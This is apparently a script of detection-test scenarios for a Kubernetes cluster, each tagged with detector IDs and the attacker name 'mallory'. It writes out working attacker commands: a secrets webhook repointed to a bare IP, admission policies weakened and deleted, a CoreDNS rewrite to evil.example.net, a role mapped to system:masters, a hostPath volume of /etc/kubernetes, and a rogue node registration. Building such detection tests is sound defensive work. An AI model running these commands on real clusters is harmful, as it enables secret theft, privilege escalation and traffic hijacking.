# What the cluster is told to do. 01-looking-around.sh says how to read this.

#: webhook | D132 D133 | mallory
kubectl apply -f - <<'YAML'
apiVersion: admissionregistration.k8s.io/v1
kind: MutatingWebhookConfiguration
metadata: {name: sidecars}
webhooks:
- name: sidecars.example.net
  clientConfig: {url: "https://hooks.example.net/mutate"}
  rules: [{apiGroups: [""], apiVersions: [v1], operations: [CREATE], resources: [secrets]}]
  namespaceSelector: {matchLabels: {team: none}}
  failurePolicy: Ignore
  sideEffects: None
  admissionReviewVersions: [v1]
YAML
#: webhook-changed | D132 D133 | mallory
kubectl patch mutatingwebhookconfiguration sidecars --type=json -p '[{"op":"replace","path":"/webhooks/0/clientConfig/url","value":"https://203.0.113.7/mutate"}]'
#: apiservice | D136 | mallory
kubectl apply -f - <<'YAML'
apiVersion: apiregistration.k8s.io/v1
kind: APIService
metadata: {name: v1beta1.external.metrics.k8s.io}
spec: {group: external.metrics.k8s.io, version: v1beta1, insecureSkipTLSVerify: true, groupPriorityMinimum: 100, versionPriority: 100, service: {name: cart, namespace: shop}}
YAML
#: crd-conversion | D137 | mallory
kubectl apply -f - <<'YAML'
apiVersion: apiextensions.k8s.io/v1
kind: CustomResourceDefinition
metadata: {name: widgets.example.net}
spec:
  group: example.net
  scope: Namespaced
  names: {plural: widgets, singular: widget, kind: Widget}
  versions: [{name: v1, served: true, storage: true, schema: {openAPIV3Schema: {type: object}}}, {name: v2, served: true, storage: false, schema: {openAPIV3Schema: {type: object}}}]
  conversion: {strategy: Webhook, webhook: {conversionReviewVersions: [v1], clientConfig: {url: "https://hooks.example.net/convert"}}}
YAML
#: policy-refused | D135 | mallory
kubectl create deployment newest -n shop --image=alpine:latest || true
#: policy-weakened | D134 | mallory
kubectl patch validatingadmissionpolicybinding no-latest --type=merge -p '{"spec":{"validationActions":["Audit"]}}'
#: policy-removed | D134 | mallory
kubectl delete validatingadmissionpolicybinding no-latest
kubectl delete validatingadmissionpolicy no-latest
#: coredns-config | D143 | mallory
kubectl patch configmap coredns -n kube-system --type=merge -p '{"data":{"Corefile":".:53 { rewrite name exact bank.example.com evil.example.net\n kubernetes cluster.local }"}}'
#: aws-auth | D141 | mallory
kubectl patch configmap aws-auth -n kube-system --type=merge -p '{"data":{"mapRoles":"- rolearn: arn:aws:iam::111122223333:role/eve\n  groups: [system:masters]\n"}}'
#: kubeadm-config | D142 | mallory
kubectl annotate configmap kubeadm-config -n kube-system note=x
kubectl patch configmap extension-apiserver-authentication -n kube-system --type=merge -p '{"data":{"requestheader-allowed-names":"[\"\"]"}}'
#: namespace | D144 | mallory
kubectl create namespace kube-sytem
#: external-ips | D013 | mallory
kubectl apply -f - <<'YAML'
apiVersion: v1
kind: Service
metadata: {name: resolver, namespace: shop}
spec: {selector: {app: cart}, ports: [{port: 443}], externalIPs: [198.51.100.53]}
YAML
#: node-port | D011 | mallory
kubectl expose deployment cart -n shop --name=open --type=NodePort --port=8080
#: load-balancer | D012 | mallory
kubectl create service loadbalancer wide-open -n shop --tcp=80:8080
#: load-balancer-address | D013 | mallory
kubectl patch service wide-open -n shop --subresource=status --type=merge -p '{"status":{"loadBalancer":{"ingress":[{"ip":"198.51.100.53"}]}}}'
#: dashboard-exposed | D010 | mallory
kubectl create namespace kubernetes-dashboard
kubectl create service loadbalancer kubernetes-dashboard -n kubernetes-dashboard --tcp=443:8443
#: ingress-without-tls | D014 | mallory
kubectl create ingress plain -n shop --rule=plain.example.com/*=cart:80
#: ingress-snippet | D015 | mallory
kubectl create ingress snippet -n shop --rule=x.example.com/=cart:80,tls=x --annotation='nginx.ingress.kubernetes.io/configuration-snippet=lua_package_path "/tmp/?.lua";'
#: volume-host-path | D059 | mallory
kubectl apply -f - <<'YAML'
apiVersion: v1
kind: PersistentVolume
metadata: {name: scratch}
spec: {capacity: {storage: 1Gi}, accessModes: [ReadWriteOnce], storageClassName: manual, hostPath: {path: /etc/kubernetes}}
YAML
#: node-labelled | D156 | mallory
kubectl label node worker-1 node-role.kubernetes.io/control-plane=
#: node-cordoned | D155 | mallory
kubectl cordon worker-2
#: node-untainted | D155 | mallory
kubectl taint node worker-1 dedicated=payments:NoSchedule
kubectl taint node worker-1 dedicated-
#: node-registered | D154 | mallory
kubectl create -f - <<'YAML'
apiVersion: v1
kind: Node
metadata: {name: worker-9}
YAML
#: node-deleted | D155 | mallory
kubectl delete node worker-9
